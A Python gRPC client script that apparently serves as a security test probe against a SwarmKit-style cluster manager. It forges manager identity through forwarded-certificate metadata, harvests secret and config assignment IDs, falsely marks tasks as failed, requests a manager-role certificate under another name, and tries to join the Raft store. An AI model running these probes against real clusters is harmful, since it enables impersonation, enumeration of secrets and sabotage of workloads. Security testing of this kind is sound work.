"""A node that does as it likes: calls a manager by hand, with whatever certificate it is given. Prints one JSON document.

rogue_client.py PROTOS ADDRESS CREDENTIALS COMMAND [ARGUMENTS]
PROTOS: modules that protoc made. CREDENTIALS: a folder with root.crt and perhaps node.crt and node.key.
"""
import base64
import json
import os
import subprocess
import sys
import tempfile
import threading

import grpc

sys.path.insert(0, sys.argv[1])
from swarm.proto import ca_pb2, dispatcher_pb2, manager_pb2  # noqa: E402

SWARM = "/docker.swarmkit.v1."
PATIENCE = 5
ATTEMPTS = 10


def read(folder, name):
    path = os.path.join(folder, name)
    return open(path, "rb").read() if os.path.exists(path) else None


class Client:
    def __init__(self, address, folder):
        certificate = read(folder, "node.crt")
        name = "swarm-manager" if certificate else "swarm-ca"
        credentials = grpc.ssl_channel_credentials(read(folder, "root.crt"), read(folder, "node.key"), certificate)
        self.channel = grpc.secure_channel(address, credentials, [("grpc.ssl_target_name_override", name), ("grpc.enable_retries", 0)])

    def open(self, method, message=b"", metadata=(), timeout=PATIENCE):
        """A stream of raw answers, whatever kind of method it is."""
        call = self.channel.stream_stream(method, request_serializer=None, response_deserializer=None)
        return call(iter([message if isinstance(message, bytes) else message.SerializeToString()]), metadata=metadata, timeout=timeout)

    def ask(self, method, message=b"", metadata=()):
        """[status, details or the first raw answer]"""
        stream = self.open(method, message, metadata)
        try:
            return ["OK", next(stream)]
        except StopIteration:
            return ["OK", b""]
        except grpc.RpcError as e:
            return [e.code().name, e.details()]
        finally:
            stream.cancel()


def printable(answer):
    return [answer[0], answer[1] if isinstance(answer[1], str) else base64.b64encode(answer[1]).decode()]


def table(client, *methods):
    """Every method with an empty message."""
    return {m: printable(client.ask(m)) for m in methods}


def forged(client, node_id, cluster_id, *methods):
    """The same, speaking for a manager."""
    words = [("redirect", "true"), ("remote_addr", "10.0.0.1:1"), ("forwarded_cert", "true"), ("forwarded_cert_cn", node_id),
             ("forwarded_cert_ou", "swarm-manager"), ("forwarded_cert_org", cluster_id)]
    return {m: printable(client.ask(m, metadata=words)) for m in methods}


class Session:
    def __init__(self, client):
        request = dispatcher_pb2.SessionRequest()
        request.description.hostname = "rogue"
        request.description.shoal_version = "0"
        self.client, self.stream = client, client.open(SWARM + "Dispatcher/Session", request, timeout=60)
        first = dispatcher_pb2.SessionMessage.FromString(next(self.stream))
        self.id, self.node_id = first.session_id, first.node.id
        threading.Thread(target=self.drain, daemon=True).start()

    def drain(self):
        try:
            for _ in self.stream:
                pass
        except grpc.RpcError:
            pass


def assignments(client):
    """What the manager sends to this node, raw and by ids. The node itself comes back meanwhile and ends the session: again then."""
    for _ in range(ATTEMPTS):
        found = one_session_of_assignments(client)
        if found["raw"]:
            break
    return found


def one_session_of_assignments(client):
    session, raw = Session(client), b""
    found = {"node": session.node_id, "tasks": [], "secrets": [], "configs": [], "nodes": []}
    stream = client.open(SWARM + "Dispatcher/Assignments", dispatcher_pb2.AssignmentsRequest(session_id=session.id), timeout=3)
    try:
        for piece in stream:
            raw += piece
            for change in dispatcher_pb2.AssignmentsMessage.FromString(piece).changes:
                kind = change.assignment.WhichOneof("item")
                item = getattr(change.assignment, kind)
                found[kind + "s"].append(item.id)
                if kind == "task":
                    found["nodes"].append(item.node_id)
    except grpc.RpcError as e:
        found["end"] = e.code().name
    found["raw"] = base64.b64encode(raw).decode()
    return found


def report(client, task_id):
    """Says that a task has failed."""
    session = Session(client)
    request = dispatcher_pb2.UpdateTaskStatusRequest(session_id=session.id)
    update = request.updates.add(task_id=task_id)
    update.status.state = 704  # FAILED
    return printable(client.ask(SWARM + "Dispatcher/UpdateTaskStatus", request))


def certificate(client):
    """Asks for one of a manager with another's name; what it is given."""
    with tempfile.TemporaryDirectory() as folder:
        csr = folder + "/csr"
        subprocess.run(["openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", folder + "/key", "-out", csr,
                        "-subj", "/O=other/OU=swarm-manager/CN=another", "-addext", "subjectAltName=DNS:swarm-manager,DNS:swarm-ca"], check=True, capture_output=True)
        request = ca_pb2.IssueNodeCertificateRequest(role=1, csr=open(csr, "rb").read())
        answer = client.ask(SWARM + "NodeCA/IssueNodeCertificate", request)
        if answer[0] != "OK":
            return printable(answer)
        node = ca_pb2.IssueNodeCertificateResponse.FromString(answer[1]).node_id
        status = client.ask(SWARM + "NodeCA/NodeCertificateStatus", ca_pb2.NodeCertificateStatusRequest(node_id=node))
        issued = ca_pb2.NodeCertificateStatusResponse.FromString(status[1]).certificate
        shown = subprocess.run(["openssl", "x509", "-noout", "-subject", "-ext", "subjectAltName"], input=issued.certificate, capture_output=True, check=True)
        return {"node": node, "shown": shown.stdout.decode()}


def join_store(client, node_id):
    request = manager_pb2.JoinStoreRequest(node_id=node_id, peer_address="10.9.9.9:2378", address="10.9.9.9:2377", csr=b"x")
    return printable(client.ask("/shoal.swarm.v1.Managers/JoinStore", request))


COMMANDS = {c.__name__: c for c in (table, forged, assignments, report, certificate, join_store)}

if __name__ == "__main__":
    print(json.dumps(COMMANDS[sys.argv[4]](Client(sys.argv[2], sys.argv[3]), *sys.argv[5:])))
